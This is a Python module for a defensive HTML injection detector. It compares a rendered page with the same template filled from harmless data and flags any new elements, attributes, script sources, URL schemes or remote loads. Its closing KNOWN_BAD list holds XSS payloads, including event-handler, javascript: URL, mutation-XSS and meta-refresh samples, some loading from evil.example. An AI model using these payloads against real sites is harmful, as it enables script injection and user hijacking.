"""Tells by an HTML5 parser whether a page holds anything its template does not mean to hold.

The measure is the same page made from harmless words: an element, an attribute or a place to load
from that the harmless page does not have was brought in by a record.
"""

import json
import re
from collections.abc import Iterable
from dataclasses import dataclass, field

from selectolax.lexbor import LexborHTMLParser

RICH = {"p", "ul", "ol", "li", "em", "strong", "a", "blockquote", "br"}
RICH_ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel")}
LEADS = {"href", "xlink:href", "action", "formaction", "cite", "ping", "longdesc"}
LOADS = {"src", "srcset", "data", "poster", "background", "code", "archive", "manifest", "icon", "profile"}
PICTURE_INSIDE = re.compile(r"data:image/png;base64,[A-Za-z0-9+/]+={0,2}")
SCHEME = re.compile(r"^[\x00-\x20]*([a-z][a-z0-9+.-]*)[\x00-\x20]*:", re.IGNORECASE)


@dataclass
class Judge:
    """What harmless pages hold: learn from them first, then judge."""

    elements: set[str] = field(default_factory=set)
    attributes: set[tuple[str, str]] = field(default_factory=set)
    scripts: set[str] = field(default_factory=set)
    metas: set[str] = field(default_factory=set)

    def learn(self, pages: Iterable[str]) -> "Judge":
        """Take these pages for good."""
        self.elements |= RICH
        self.attributes |= RICH_ATTRIBUTES
        for page in pages:
            for node in LexborHTMLParser(page).css("*"):
                self.elements.add(node.tag or "")
                self.attributes |= {(node.tag or "", name) for name in node.attributes}
                if node.tag == "script":
                    self.scripts.add(_file(node.attributes.get("src")))
                if node.tag == "meta" and "http-equiv" in node.attributes:
                    self.metas.add(str(node.attributes.get("content")))
        return self

    def faults(self, page: str) -> list[str]:
        """Return what a page holds that no harmless page does; empty for an innocent page."""
        found = []
        for node in LexborHTMLParser(page).css("*"):
            if node.tag not in self.elements:
                found.append(f"<{node.tag}>")
            for name, value in node.attributes.items():
                if (node.tag, name) not in self.attributes:
                    found.append(f"<{node.tag} {name}>")
                found += _leads_astray(node.tag or "", name, value or "")
            if node.tag == "script":
                found += self._script(node.attributes, node.text())
            if node.tag == "meta" and "http-equiv" in node.attributes:
                content = str(node.attributes.get("content"))
                found += [] if content in self.metas else [f"<meta http-equiv> {content[:60]}"]
        return found

    def _script(self, attributes: dict[str, str | None], text: str) -> list[str]:
        source = _file(attributes.get("src"))
        if source not in self.scripts:
            return [f"<script src={source}>"]
        if source == "" and attributes.get("type") not in {"application/json", "application/ld+json"}:
            return [f"<script> {text[:60]}"]
        if source == "":
            try:
                json.loads(text)
            except ValueError:
                return [f"<script> is no JSON: {text[:60]}"]
        return []


def _file(source: str | None) -> str:
    """Return a script's source without the way there: `../../assets/x.js` and `assets/x.js` are one."""
    return re.sub(r"^(?:\.\./|\./)+", "", source or "")


def _leads_astray(tag: str, name: str, value: str) -> list[str]:
    scheme = SCHEME.match(value)
    kind = scheme[1].lower() if scheme else ""
    if name in LEADS and kind not in {"", "http", "https", "mailto"}:
        return [f"<{tag} {name}={value[:40]!r}>"]
    if name in LEADS and tag in {"link", "form", "use", "image", "base"} and value.lstrip().startswith("//"):
        return [f"<{tag} {name}={value[:40]!r}>"]
    if (tag, name) == ("img", "src") and PICTURE_INSIDE.fullmatch(value):
        return []  # a code to scan: a PNG runs nothing and asks nobody
    if name in LOADS and (kind or value.lstrip("\x00 \t\n").startswith(("//", "\\"))):
        return [f"<{tag} {name}={value[:40]!r}>"]
    return []


KNOWN_BAD = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" alt="">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">',
    '<img src="data:image/png;base64,AAAA onerror=alert(1)" alt="">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1;java&#x73;cript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='javascript:alert(1)'><input type=submit>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    '<script type=application/json>{"a": </script><script>alert(1)</script>',
)
